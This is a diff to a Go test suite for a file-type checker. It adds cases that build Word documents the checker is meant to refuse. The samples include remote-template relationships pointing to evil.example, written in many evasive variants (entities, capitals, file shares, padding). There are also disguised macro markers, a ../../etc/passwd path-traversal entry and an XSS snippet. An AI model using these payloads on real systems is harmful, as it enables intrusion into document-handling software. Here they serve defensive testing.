@@ -48,6 +48,11 @@ func TestWhatAFileIs(t *testing.T) {
 		{"date", "text/calendar", "a.ics", []byte("\xef\xbb\xbfBEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"), "text/calendar", "file"},
 		{"docx", "", "a.docx", docx(t), office[0].media, "file"},
 		{"xlsx", "", "a.xlsx", xlsx, office[1].media, "file"},
+		{"docx with links", "", "a.docx", docx(t, part{"word/_rels/document.xml.rels", []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="urn:x"><Relationship Id="1" Type="urn:x/hyperlink" Target="https://good.example/" TargetMode="External"/>
+<Relationship Id="2" Type="urn:x/attachedTemplate" Target="file:///C:\Users\meena\Normal.dotm" TargetMode="External"/>
+<Relationship Id="3" Type="urn:x/attachedTemplate" Target="C:/Letters/a.dotx" TargetMode="External"/>
+<Relationship Id="4" Type="urn:x/oleObject" Target="embeddings/sheet1.xlsx"/></Relationships>`)}), office[0].media, "file"},
 		{"odt", "", "a.odt", odt, "application/vnd.oasis.opendocument.text", "file"},
 		{"doc", "application/msword", "a.doc", ole("WordDocument", "1Table"), "application/msword", "file"},
 		{"xls", "", "a.xls", ole("Workbook"), "application/vnd.ms-excel", "file"},
@@ -71,6 +76,9 @@ func TestWhatIsRefused(t *testing.T) {
 	photo, page := jpegOf(t, 20, 10), []byte("<!DOCTYPE html><script>alert(1)</script>")
 	pdf := []byte("%PDF-1.7\nstartxref\n9\n%%EOF\n")
 	template := []byte(`<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`)
+	rels := func(inside string) []byte {
+		return docx(t, part{"word/_rels/settings.xml.rels", []byte(`<?xml version="1.0" encoding="UTF-8"?><Relationships>` + inside + `</Relationships>`)})
+	}
 	for _, tt := range []struct {
 		name, claimed, file string
 		content             []byte
@@ -105,9 +113,19 @@ func TestWhatIsRefused(t *testing.T) {
 		{"macros", "", "a.docx", docx(t, part{"word/vbaProject.bin", []byte("x")}), "there are programs inside it"},
 		{"macros by another name", "", "a.docx", docx(t, part{"word/Vbaproject1.BIN", []byte("x")}), "there are programs inside it"},
 		{"macros of old sheets", "", "", zipOf(t, part{"[Content_Types].xml", nil}, part{"xl/macrosheets/sheet1.xml", nil}), "there are programs inside it"},
-		{"macros by its own word", "", "", zipOf(t, part{"[Content_Types].xml", []byte("application/vnd.ms-word.document.macroEnabled.main+xml")}, part{"word/document.xml", nil}), "there are programs inside it"},
+		{"macros by its own word", "", "", zipOf(t, part{"[Content_Types].xml", []byte(`<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`)}, part{"word/document.xml", nil}), "there are programs inside it"},
+		{"macros by its own word, as entities", "", "", zipOf(t, part{"[Content_Types].xml", []byte(`<Types><Override ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>`)}, part{"word/document.xml", nil}), "there are programs inside it"},
 		{"macros of odt", "", "", zipOf(t, part{"mimetype", []byte("application/vnd.oasis.opendocument.text")}, part{"Basic/Standard/Module1.xml", nil}), "there are programs inside it"},
 		{"template from elsewhere", "", "", docx(t, part{"word/_rels/settings.xml.rels", template}), "it would load something from the internet"},
+		{"template in other quotes", "", "", rels(`<Relationship Type='urn:x/attachedTemplate' TargetMode='External' Target='https://evil.example/x.dotm'/>`), "it would load something from the internet"},
+		{"template behind a line break", "", "", rels("<Relationship\nTarget = \"https://evil.example/x.dotm\" Type=\"urn:x/attachedTemplate\"\tTargetMode=\"External\"></Relationship>"), "it would load something from the internet"},
+		{"template by another name", "", "", rels(`<r:Relationship xmlns:r="urn:x" Type="urn:x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>`), "it would load something from the internet"},
+		{"template in capitals", "", "", rels(`<Relationship Type="urn:x/attachedTemplate" Target="HTTPS://evil.example/x.dotm" TargetMode="External"/>`), "it would load something from the internet"},
+		{"template as entities", "", "", rels(`<Relationship Type="urn:x/attachedTemplat&#101;" Target="&#104;ttps://evil.example/x.dotm" TargetMode="External"/>`), "it would load something from the internet"},
+		{"template from a share", "", "", rels(`<Relationship Type="urn:x/oleObject" Target="file://evil.example/x.dotm" TargetMode="External"/>`), "it would load something from the internet"},
+		{"template from a share in other words", "", "", rels(`<Relationship Type="urn:x/frame" Target="file:///\\\\evil.example\\x" TargetMode="External"/>`), "it would load something from the internet"},
+		{"template behind much else", "", "", rels("<!--" + strings.Repeat(" x", 1<<19) + "-->" + `<Relationship Type="urn:x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>`), "it is put together in a way that tricks programs"},
+		{"list in UTF-16", "", "", docx(t, part{"word/_rels/settings.xml.rels", []byte("\xff\xfe" + wide(`<Relationships><Relationship Type="urn:x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`))}), "it is cut short or broken"},
 		{"way out", "", "", docx(t, part{"../../etc/passwd", nil}), "it is put together in a way that tricks programs"},
 		{"same name twice", "", "", docx(t, part{"word/document.xml", nil}), "it is put together in a way that tricks programs"},
 		{"old macros", "application/msword", "a.doc", ole("WordDocument", "Macros\x00", "_VBA_PROJECT"), "there are programs inside it"},
